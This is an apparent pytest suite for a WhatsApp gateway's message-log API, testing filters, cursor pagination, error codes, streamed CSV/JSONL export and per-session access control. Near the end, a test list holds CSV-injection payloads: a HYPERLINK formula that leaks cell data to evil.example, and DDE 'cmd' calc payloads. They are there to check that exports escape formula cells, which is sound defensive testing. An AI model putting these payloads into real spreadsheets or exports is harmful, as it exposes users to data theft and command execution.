"""Reading the log: filters, search and cursor pagination over a few thousand rows; streamed export."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import insert

from tests.api.test_bad_input import assert_error
from tests.conftest import Harness, LiveServer
from waqtor.clock import iso_ms
from waqtor.messaging.views import EXPORT_COLUMNS
from waqtor.storage.tables import messages

ROWS = 3000
T0 = datetime(2025, 10, 1, tzinfo=UTC)
CHATS = ["4915112345678@s.whatsapp.net", "971501234567@s.whatsapp.net", "120363025246125486@g.us"]
WORDS = ["invoice", "Invoice ready", "hello", "50%_off today", "meeting"]


def seed_rows() -> list[dict[str, Any]]:
    rng = random.Random(5)
    rows = []
    for n in range(ROWS):
        direction = rng.choice(["in", "out"])
        stamp = T0 + timedelta(minutes=n)
        rows.append({
            "session": rng.choice(["default", "shop"]),
            "direction": direction,
            "chat": rng.choice(CHATS),
            "sender": None,
            "type": "text",
            "text": f"{rng.choice(WORDS)} #{n}",
            "status": "received" if direction == "in" else rng.choice(["sent", "delivered", "read", "failed"]),
            "timestamp": stamp,
            "created_at": stamp,
        })
    return rows


@pytest.fixture
async def seeded(gw: Harness) -> list[dict[str, Any]]:
    rows = seed_rows()
    async with gw.gateway.storage.engine.begin() as conn:
        await conn.execute(insert(messages), rows)
    return rows


async def walk(gw: Harness, **params: Any) -> list[dict[str, Any]]:
    """Every page of a listing, following nextCursor."""
    found: list[dict[str, Any]] = []
    cursor = None
    while True:
        query = params | ({"cursor": cursor} if cursor else {})
        response = await gw.client.get("/api/messages", params=query)
        assert response.status_code == 200, response.text
        page = response.json()["data"]
        found += page["messages"]
        cursor = page["nextCursor"]
        if cursor is None:
            return found


def expected(rows: list[dict[str, Any]], keep: Callable[[dict[str, Any]], bool]) -> list[str]:
    return [r["text"] for r in reversed(rows) if keep(r)]


async def test_paging_through_everything_returns_each_message_once_newest_first(gw: Harness, seeded: list) -> None:  # type: ignore[type-arg]
    found = await walk(gw, limit=250)
    ids = [m["id"] for m in found]
    assert len(ids) == ROWS and len(set(ids)) == ROWS and ids == sorted(ids, reverse=True)
    assert [m["body"] for m in found] == expected(seeded, lambda r: True)


@pytest.mark.parametrize(("params", "keep"), [
    ({"session": "shop"}, lambda r: r["session"] == "shop"),
    ({"direction": "in"}, lambda r: r["direction"] == "in"),
    ({"status": "failed"}, lambda r: r["status"] == "failed"),
    ({"chat": "+971 50 123 4567"}, lambda r: r["chat"] == CHATS[1]),
    ({"chat": CHATS[2]}, lambda r: r["chat"] == CHATS[2]),
    ({"q": "INVOICE"}, lambda r: "invoice" in r["text"].lower()),
    ({"q": "50%_off"}, lambda r: "50%_off" in r["text"]),
    ({"since": "2025-10-02T00:00:00Z", "until": "2025-10-02T06:00:00Z"},
     lambda r: datetime(2025, 10, 2, tzinfo=UTC) <= r["timestamp"] < datetime(2025, 10, 2, 6, tzinfo=UTC)),
    ({"since": "2025-10-02T00:00:00"},  # no zone: UTC
     lambda r: r["timestamp"] >= datetime(2025, 10, 2, tzinfo=UTC)),
    ({"session": "default", "direction": "out", "status": "read", "q": "hello"},
     lambda r: (r["session"], r["direction"], r["status"]) == ("default", "out", "read") and "hello" in r["text"]),
])
async def test_filters_page_through_exactly_the_matching_messages(
    gw: Harness, seeded: list, params: dict[str, str], keep: Callable[[dict[str, Any]], bool]  # type: ignore[type-arg]
) -> None:
    found = await walk(gw, limit=97, **params)
    assert [m["body"] for m in found] == expected(seeded, keep)
    assert found  # each filter matches something in the seeded log


async def test_a_page_holds_at_most_limit_messages(gw: Harness, seeded: list) -> None:  # type: ignore[type-arg]
    page = (await gw.client.get("/api/messages", params={"limit": 7})).json()["data"]
    assert len(page["messages"]) == 7 and page["nextCursor"]


@pytest.mark.parametrize("cursor", ["garbage", "e30", "eyJiZWZvcmUiOiAiMSJ9", "eyJiZWZvcmUiOiAtMX0"])
async def test_a_cursor_the_gateway_did_not_give_is_400(gw: Harness, cursor: str) -> None:
    assert_error(await gw.client.get("/api/messages", params={"cursor": cursor}), 400, "invalid_cursor")


@pytest.mark.parametrize("params", [{"limit": 0}, {"limit": 501}, {"direction": "sideways"}, {"status": "lost"},
                                    {"since": "yesterday"}])
async def test_bad_filters_are_422(gw: Harness, params: dict[str, Any]) -> None:
    assert_error(await gw.client.get("/api/messages", params=params), 422, "validation_error")


async def test_a_chat_filter_that_is_no_phone_number_is_400(gw: Harness) -> None:
    assert_error(await gw.client.get("/api/messages", params={"chat": "nobody"}), 400, "invalid_phone")


async def test_an_unknown_message_is_404(gw: Harness) -> None:
    assert_error(await gw.client.get("/api/messages/999999"), 404, "message_not_found")


@pytest.mark.parametrize("message_id", ["0", "-1", "99999999999999999999999", "export2"])
async def test_an_impossible_message_id_is_422(gw: Harness, message_id: str) -> None:
    assert_error(await gw.client.get(f"/api/messages/{message_id}"), 422, "validation_error")


@pytest.mark.parametrize("params", [{"since": "0001-01-01T00:00:00+10:00"}, {"until": "9999-12-31T23:59:59-10:00"}])
async def test_times_at_the_ends_of_the_calendar_are_accepted(gw: Harness, seeded: list, params: dict) -> None:  # type: ignore[type-arg]
    found = (await gw.client.get("/api/messages", params=params | {"limit": 1})).json()["data"]["messages"]
    assert len(found) == 1


async def test_the_csv_export_holds_every_matching_message_oldest_first(gw: Harness, seeded: list) -> None:  # type: ignore[type-arg]
    response = await gw.client.get("/api/messages/export", params={"format": "csv", "direction": "out"})
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="messages-')
    table = list(csv.DictReader(io.StringIO(response.text)))
    outgoing = [r for r in seeded if r["direction"] == "out"]
    assert [row["body"] for row in table] == [r["text"] for r in outgoing]
    assert {row["direction"] for row in table} == {"out"}
    assert list(table[0]) == list(EXPORT_COLUMNS)
    assert table[0]["timestamp"] == iso_ms(outgoing[0]["timestamp"])


async def test_the_jsonl_export_has_one_message_object_a_line(gw: Harness, seeded: list) -> None:  # type: ignore[type-arg]
    response = await gw.client.get("/api/messages/export", params={"format": "jsonl", "q": "meeting"})
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert [m["body"] for m in lines] == [r["text"] for r in seeded if "meeting" in r["text"]]
    single = (await gw.client.get(f"/api/messages/{lines[0]['id']}")).json()["data"]
    assert lines[0] == single


# Texts anyone on WhatsApp may send that a spreadsheet would run as a formula (OWASP's CSV injection).
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'quoted already", "plain = fine"]


async def test_the_csv_export_writes_formula_cells_as_text(gw: Harness) -> None:
    await gw.scan()
    for text in HOSTILE:
        response = await gw.client.post("/api/sandbox/inbound", json={"from": "+4915112345678", "body": text})
        assert response.status_code == 200, response.text
    export = await gw.client.get("/api/messages/export", params={"format": "csv", "direction": "in"})
    table = list(csv.DictReader(io.StringIO(export.text, newline="")))
    assert [row["body"] for row in table] == [f"'{text}" if text[0] in "=+-@\t\r" else text for text in HOSTILE]
    jsonl = await gw.client.get("/api/messages/export", params={"format": "jsonl", "direction": "in"})
    assert [json.loads(line)["body"] for line in jsonl.text.splitlines()] == HOSTILE  # JSON is no spreadsheet


async def test_the_export_is_streamed_not_built_in_memory(live: LiveServer) -> None:
    async with live.gateway.storage.engine.begin() as conn:
        await conn.execute(insert(messages), seed_rows())
    async with live.client() as http, http.stream("GET", "/api/messages/export", params={"format": "csv"}) as response:
        assert response.status_code == 200
        assert response.headers.get("transfer-encoding") == "chunked"
        assert "content-length" not in response.headers
        body = b"".join([chunk async for chunk in response.aiter_bytes()])
    assert body.count(b"\n") == ROWS + 1  # the header and every row


async def test_another_sessions_message_is_404_exactly_like_a_missing_one(gw: Harness) -> None:
    async with gw.gateway.storage.engine.begin() as conn:
        [shop_id] = (await conn.execute(insert(messages).returning(messages.c.id), [
            {**row, "session": "shop"} for row in seed_rows()[:1]])).scalars()
    created = await gw.client.post("/api/keys", json={"name": "default only", "scopes": ["read"],
                                                      "sessions": ["default"]})
    headers = {"X-API-Key": created.json()["data"]["key"]}
    missing = shop_id + 1000
    hidden, absent = [await gw.client.get(f"/api/messages/{n}", headers=headers) for n in (shop_id, missing)]
    assert_error(hidden, 404, "message_not_found")
    assert hidden.json()["error"]["message"] == absent.json()["error"]["message"].replace(str(missing), str(shop_id))
    assert (await gw.client.get(f"/api/messages/{shop_id}")).status_code == 200  # there for an unlimited key
